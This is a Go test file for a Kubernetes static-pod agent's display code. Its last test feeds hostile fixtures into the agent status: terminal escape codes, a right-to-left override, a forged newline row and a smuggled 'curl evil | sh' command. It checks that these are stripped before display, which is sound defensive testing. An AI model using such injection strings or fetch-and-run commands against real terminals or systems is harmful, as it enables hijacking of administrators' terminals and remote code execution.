package view_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"ebbtide.dev/ebbtide/api/v1alpha1"
	"ebbtide.dev/ebbtide/internal/core/view"
)

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// seven is the agent of node-7, by its pod ebbtide-agent-x.
func seven(pods ...v1alpha1.StaticPod) *v1alpha1.NodeAgent {
	return &v1alpha1.NodeAgent{
		ObjectMeta: metav1.ObjectMeta{Name: "node-7", CreationTimestamp: metav1.NewTime(noon)},
		Status:     v1alpha1.NodeAgentStatus{PodName: "ebbtide-agent-x", ManifestDir: "/etc/kubernetes/manifests", StaticPods: pods},
	}
}

func in(state v1alpha1.StaticPodState, name string) v1alpha1.StaticPod {
	return v1alpha1.StaticPod{Namespace: "kube-system", Name: name, State: state}
}

func agentPod(node string, ready corev1.ConditionStatus) view.AgentPods {
	return view.AgentPods{Namespace: "tides", Pods: map[string]*corev1.Pod{"ebbtide-agent-x": {
		Spec:   corev1.PodSpec{NodeName: node},
		Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: ready}}},
	}}}
}

const bringBack = `for f in /etc/kubernetes/manifests/.*.ebbtide-held; do b=${f##*/.}; mv -n "$f" "/etc/kubernetes/manifests/${b%.ebbtide-held}"; done`

func TestWhetherAnAgentAnswers(t *testing.T) {
	t.Parallel()
	held := in(v1alpha1.StaticPodHeld, "proxy-node-7")
	unit := seven()
	unit.Status.PodName = ""
	for name, test := range map[string]struct {
		agent *v1alpha1.NodeAgent
		pods  view.AgentPods
		want  string
		notes []string
	}{
		"its pod is ready":     {seven(held), agentPod("node-7", corev1.ConditionTrue), "yes", nil},
		"its pod is not ready": {seven(), agentPod("node-7", corev1.ConditionFalse), "no", []string{"node-7: its agent does not answer: pod tides/ebbtide-agent-x is not ready"}},
		"its pod is gone":      {seven(), view.AgentPods{Namespace: "tides"}, "no", []string{"node-7: its agent does not answer: there is no pod tides/ebbtide-agent-x on it"}},
		"the pod of another node": {
			seven(), agentPod("node-8", corev1.ConditionTrue), "no",
			[]string{"node-7: its agent does not answer: there is no pod tides/ebbtide-agent-x on it"},
		},
		"it keeps a pod away": {seven(held), view.AgentPods{Namespace: "tides"}, "no", []string{
			"node-7: its agent does not answer and keeps 1 static pod away: there is no pod tides/ebbtide-agent-x on it. " +
				"If it does not come back, run this on the node: " + bringBack,
		}},
		"nobody may look":    {seven(held), view.AgentPods{Unread: errors.New("forbidden")}, "unknown", nil},
		"a unit of the host": {unit, view.AgentPods{}, "unknown", []string{"node-7: its agent is a unit of the host; ask there: systemctl status ebbtide-agent"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := view.AgentOf(test.agent, test.pods)
			if got.Answers != test.want {
				t.Errorf("it answers: %s, want %s", got.Answers, test.want)
			}
			if diff := cmp.Diff(test.notes, got.Notes); diff != "" {
				t.Errorf("notes (-want +got):\n%s", diff)
			}
		})
	}
}

func TestTheStaticPodsOfANode(t *testing.T) {
	t.Parallel()
	holding := in(v1alpha1.StaticPodHolding, "proxy-node-7")
	holding.SinceTime, holding.MaintenanceName, holding.Message = &metav1.Time{Time: noon}, "upgrade", "it terminates"
	agent := seven(in(v1alpha1.StaticPodUnmanageable, "etcd-node-7"), in(v1alpha1.StaticPodRunning, "log-node-7"),
		in(v1alpha1.StaticPodRestoring, "back-node-7"), in(v1alpha1.StaticPodHeld, "dns-node-7"), holding)
	agent.Status.Shutdown = &v1alpha1.NodeShutdown{Phase: v1alpha1.ShutdownPreparing, Mode: v1alpha1.ShutdownModeDrain}
	want := view.Agent{
		Node: "node-7", Answers: "yes", Running: 2, Held: 2, Left: 1, Shutdown: "Preparing", Mode: "Drain", Since: noon,
		Pods: []view.StaticPod{
			{Name: "kube-system/proxy-node-7", State: "Holding", Since: noon, Maintenance: "upgrade", Message: "it terminates"},
			{Name: "kube-system/dns-node-7", State: "Held"},
			{Name: "kube-system/back-node-7", State: "Restoring"},
			{Name: "kube-system/log-node-7", State: "Running"},
			{Name: "kube-system/etcd-node-7", State: "Unmanageable"},
		},
	}
	if diff := cmp.Diff(want, view.AgentOf(agent, agentPod("node-7", corev1.ConditionTrue))); diff != "" {
		t.Errorf("shown (-want +got):\n%s", diff)
	}
}

// Whoever has power over a node writes its NodeAgent, and administrators read it in a terminal.
func TestWhatAnAgentSaysIsNoCommandOfATerminal(t *testing.T) {
	t.Parallel()
	evil := in("\x1b[2JHeld", "x\nnode-8   yes")
	evil.Message, evil.MaintenanceName = strings.Repeat("\x1b]0;owned\x07", 1000), "\u202ekcab"
	agent := seven(evil, in(v1alpha1.StaticPodHeld, "proxy-node-7"))
	agent.Status.PodName, agent.Status.ManifestDir = "a\x1b[31mb", `/x"; curl evil | sh; "`
	agent.Status.Shutdown = &v1alpha1.NodeShutdown{Phase: "\x1b[5m", Mode: "\r"}
	got := view.AgentOf(agent, view.AgentPods{Namespace: "tides"})
	texts := append([]string{got.Shutdown, got.Mode}, got.Notes...)
	for _, pod := range got.Pods {
		texts = append(texts, pod.Name, pod.State, pod.Message, pod.Maintenance)
	}
	for _, text := range texts {
		if strings.ContainsAny(text, "\x1b\n\r\x07\u202e") || strings.Contains(text, "curl") || len(text) > 700 {
			t.Errorf("shown: %q", text)
		}
	}
}
